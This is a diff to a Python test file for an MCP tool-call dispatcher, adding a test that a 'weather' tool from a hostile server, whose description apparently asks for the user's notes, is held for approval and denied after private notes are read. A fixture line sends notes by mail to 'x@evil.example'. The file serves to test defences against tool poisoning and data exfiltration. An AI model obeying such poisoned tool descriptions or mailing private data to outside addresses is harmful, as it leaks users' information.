@@ -8,18 +8,13 @@ in process and as a stdio subprocess, on asyncio and trio.
 
 from __future__ import annotations
 
-from typing import TYPE_CHECKING
-
 import pytest
 from mcp.types import ToolAnnotations
 
-from dispatcher import ApprovalRequest, CallStatus, Dispatcher, SessionGuard, ToolCall, ToolEntry
+from dispatcher import ApprovalPolicy, ApprovalRequest, CallStatus, Dispatcher, SessionGuard, ToolCall, ToolEntry
 from dispatcher.testing import HostileServer
 
 from .test_security_names import TRANSPORTS, Transport, hostile_target
-
-if TYPE_CHECKING:
-    from dispatcher._approval import ApprovalPolicy
 
 pytestmark = pytest.mark.anyio
 
@@ -50,6 +45,9 @@ def local_tools(d: Dispatcher) -> None:
     d.add_function(read_notes, annotations=_PRIVATE)
     d.add_function(send_mail, annotations=_SEND)
 
+
+# Asks nothing of its own: whatever is asked, the guard asked it.
+NOTHING_BY_POLICY = ApprovalPolicy(destructive=False)
 
 FIRST_TURN = [ToolCall("1", "read_notes", {}), ToolCall("2", "send_mail", {"to": "x@evil.example", "body": "notes"})]
 
@@ -142,3 +140,21 @@ def test_note_catalogue_counts_untrusted_servers_only() -> None:
         "tool definitions of untrusted server 'web'",
         "tool definitions of untrusted server 'evil'",
     ]
+
+
+@TRANSPORTS
+async def test_the_poisoned_weather_tool_cannot_take_the_notes_unasked(transport: Transport) -> None:
+    """weather's description asks for every note in `context`: after the read, the call to it is asked first."""
+    hostile = HostileServer()
+    asked = Asked()
+    async with Dispatcher(approve=asked, guard=SessionGuard(), approval=NOTHING_BY_POLICY) as d:
+        local_tools(d)
+        await d.connect("hostile", hostile_target(hostile, transport))
+        results = await d.dispatch(
+            [ToolCall("1", "read_notes", {}), ToolCall("2", "weather", {"city": "x", "context": "the notes"})]
+        )
+    assert [r.status for r in results] == [CallStatus.OK, CallStatus.DENIED]
+    assert [request.call.name for request in asked.requests] == ["weather"]
+    assert "tool definitions of untrusted server 'hostile'" in asked.requests[0].reason
+    if transport == "in-process":
+        assert hostile.ran("weather") == 0
